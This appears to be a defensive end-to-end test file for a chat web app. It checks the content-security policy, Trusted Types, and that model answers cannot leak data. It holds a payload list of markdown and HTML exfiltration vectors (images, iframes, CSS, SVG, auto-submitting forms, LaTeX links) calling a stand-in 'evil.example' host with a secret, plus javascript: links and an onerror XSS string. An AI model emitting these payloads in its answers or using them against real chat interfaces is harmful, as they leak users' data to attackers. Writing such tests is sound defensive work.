/** The page under attack by the text it shows. */
import { readFile } from 'node:fs/promises'
import { chatText } from '../stack/chat-answer.ts'
import { expect, test } from './fixtures.ts'

const secret = 'secret-of-the-person'

test('the page is served with a strict policy', async ({ stack, request }) => {
  const response = await request.get(stack.app.url)
  const policy = response.headers()['content-security-policy'] ?? ''
  const directives = new Map(
    policy.split(';').map(directive => {
      const [name = '', ...values] = directive.trim().split(/\s+/)
      return [name, values.join(' ')] as const
    }),
  )
  expect(directives.get('default-src')).toBe("'none'")
  expect(directives.get('script-src')).not.toMatch(/'unsafe-inline'|'unsafe-eval'|\*|https?:/)
  expect(directives.get('connect-src')).toMatch(/^'self'( wss?:\/\/localhost:\d+)?$/)
  expect(directives.get('base-uri')).toBe("'none'")
  expect(directives.get('frame-ancestors')).toMatch(/'none'|'self'/)
  expect(directives.get('require-trusted-types-for')).toBe("'script'")
  expect(directives.get('img-src') ?? '').not.toMatch(/https?:|\*/)
  expect(response.headers()['referrer-policy']).toBe('no-referrer')
  expect(response.headers()['x-content-type-options']).toBe('nosniff')
})

test('the page opened by the service worker has the same policy', async ({
  readyApp: app,
  stack,
  request,
}) => {
  await app.page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined))
  const [reloaded] = await Promise.all([
    app.page.waitForResponse(response => response.url() === app.page.url()),
    app.page.reload(),
  ])
  expect(reloaded.fromServiceWorker()).toBe(true)
  const served = await request.get(stack.app.url)
  expect(reloaded.headers()['content-security-policy']).toBe(served.headers()['content-security-policy'])
})

const attacks = (exfil: string): readonly (readonly [name: string, markdown: string])[] => [
  ['an image', `![x](${exfil}/image?q=${secret})`],
  ['an image by reference', `![x][r]\n\n[r]: ${exfil}/reference?q=${secret}`],
  ['an image in a link', `[![x](${exfil}/inner?q=${secret})](${exfil}/outer)`],
  [
    'HTML',
    `<img src="${exfil}/html?q=${secret}"><iframe src="${exfil}/frame"></iframe><script src="${exfil}/script"></script>`,
  ],
  ['style', `<style>@import url(${exfil}/style);body{background:url(${exfil}/background)}</style>`],
  [
    'a prefetch',
    `<link rel="prefetch" href="${exfil}/prefetch"><meta http-equiv="refresh" content="0;url=${exfil}/refresh">`,
  ],
  [
    'SVG',
    `<svg xmlns="http://www.w3.org/2000/svg"><image href="${exfil}/svg"/><use href="${exfil}/use#a"/></svg>`,
  ],
  ['a form', `<form action="${exfil}/form"><input autofocus onfocus="this.form.submit()"></form>`],
  [
    'a formula',
    `$\\href{${exfil}/math}{x}$ $\\includegraphics{${exfil}/graphics}$ $$\\url{javascript:alert(1)}$$`,
  ],
  [
    'a data URL',
    `![x](data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${exfil}/data'/%3E%3C/svg%3E)`,
  ],
  ['media', `<video src="${exfil}/video" autoplay></video><audio src="${exfil}/audio" autoplay></audio>`],
]

for (const index of attacks('').keys()) {
  const name = attacks('')[index]?.[0] ?? ''
  test(`${name} in an answer asks nobody anything`, async ({ readyApp: app, provider, egress }) => {
    for (const host of ['https://evil.example', `${provider.url}/exfil`]) {
      provider.script(chatText(attacks(host)[index]?.[1] ?? ''))
      await app.send(`Attack ${host}`)
      await app.waitForAnswer()
    }
    await app.newThread()
    await app.ask('Something harmless, to let time pass')
    expect(egress.attempts).toEqual([])
    expect(provider.requests.filter(request => request.path.startsWith('/exfil'))).toEqual([])
    expect(new URL(app.page.url()).origin).toBe(app.url)
  })
}

test('a remote image is named with its host and loads only when asked for', async ({
  readyApp: app,
  provider,
}) => {
  provider.script(chatText(`![a chart](${provider.url}/exfil/chart.png)`))
  const answer = await app.ask('Show')
  await expect(answer.getByText(/127\.0\.0\.1/).first()).toBeVisible()
  expect(provider.requests.some(request => request.path.includes('chart.png'))).toBe(false)
})

test('a remote image that was asked for is shown in its place, and its host is told nothing else', async ({
  readyApp: app,
  provider,
  page,
}) => {
  const asked: Record<string, string>[] = []
  await page.context().route('https://images.example/**', async route => {
    asked.push(await route.request().allHeaders())
    await route.fulfill({
      status: 200,
      headers: { 'access-control-allow-origin': '*', 'content-type': 'image/png' },
      body: await readFile(new URL('../../app/public/icons/icon-192.png', import.meta.url)),
    })
  })
  provider.script(chatText('![a chart](https://images.example/chart.png?q=1)'))
  const answer = await app.ask('Show')
  expect(asked).toEqual([])
  await answer.getByRole('button', { name: 'Load image from images.example' }).click()
  const image = answer.getByRole('img', { name: 'a chart' })
  await expect(image).toHaveJSProperty('naturalWidth', 192)
  await expect(image).toHaveAttribute('src', /^blob:/)
  expect(asked).toHaveLength(1)
  expect(asked[0]).not.toHaveProperty('referer')
  expect(asked[0]).not.toHaveProperty('cookie')
  expect(asked[0]).not.toHaveProperty('authorization')
})

test('links show where they go and carry no address of ours', async ({ readyApp: app, provider }) => {
  provider.script(
    chatText(
      '[click](https://example.org/page) [bad](javascript:alert(1)) [worse](data:text/html,<script>alert(1)</script>) [vb](vbscript:x)',
    ),
  )
  const answer = await app.ask('Links')
  const link = answer.getByRole('link', { name: /click/ })
  await expect(link).toHaveAttribute('href', 'https://example.org/page')
  await expect(link).toHaveAttribute('rel', /noopener/)
  await expect(link).toHaveAttribute('rel', /noreferrer/)
  await expect(
    answer.locator('a[href^="javascript:" i], a[href^="data:" i], a[href^="vbscript:" i]'),
  ).toHaveCount(0)
})

test('script in titles, file names, models and messages is text', async ({ readyApp: app, provider }) => {
  const hostile = '<img src=x onerror="document.title=\'owned\'">'
  provider.script(chatText(hostile))
  await app.ask(hostile)
  await expect(app.said).toContainText(hostile)
  await expect(app.conversation.locator('img')).toHaveCount(0)
  expect(await app.page.title()).not.toBe('owned')
})

test('strings do not become HTML or script: the page enforces Trusted Types', async ({
  readyApp: app,
  watch,
}) => {
  watch.allow(/trusted-types|TrustedHTML|TrustedScript|require-trusted-types-for|eval/i)
  const outcome = await app.page.evaluate(() => {
    const attempt = (action: () => unknown): string => {
      try {
        action()
        return 'allowed'
      } catch {
        return 'refused'
      }
    }
    return {
      html: attempt(() => {
        document.createElement('div').innerHTML = '<b>x</b>'
      }),
      policy: attempt(() => {
        const types: unknown = Reflect.get(globalThis, 'trustedTypes')
        if (typeof types !== 'object' || types === null) return
        const create: unknown = Reflect.get(types, 'createPolicy')
        if (typeof create === 'function')
          Reflect.apply(create, types, ['attacker', { createHTML: (text: string) => text }])
      }),
    }
  })
  expect(outcome).toEqual({ html: 'refused', policy: 'refused' })
})

test('the page itself may reach nobody but its own server', async ({ readyApp: app, provider, watch }) => {
  watch.allow(/connect-src|Content Security Policy|Failed to fetch|Refused to connect/i)
  const reached = await app.page.evaluate(
    url =>
      fetch(url, { mode: 'no-cors' }).then(
        () => true,
        () => false,
      ),
    `${provider.url}/v1/models`,
  )
  expect(reached).toBe(false)
  expect(
    provider.requests.filter(
      request => request.path === '/v1/models' && request.headers.authorization === undefined,
    ),
  ).toEqual([])
})

test('a prefilled message is never sent by itself, however it came', async ({ app, provider, openTab }) => {
  await app.addProvider()
  const tab = await openTab(`/?q=${encodeURIComponent('prefilled text')}`)
  await expect(tab.page.getByRole('main')).toBeVisible()
  expect(provider.calls()).toEqual([])
})

test('a thread that does not exist says so, and loses nothing', async ({ readyApp: app }) => {
  await app.page.goto(`${app.url}/t/thr_0000000000000000000000`)
  await expect(app.page.getByText(/not on this device|nothing here|not found/i).first()).toBeVisible()
})
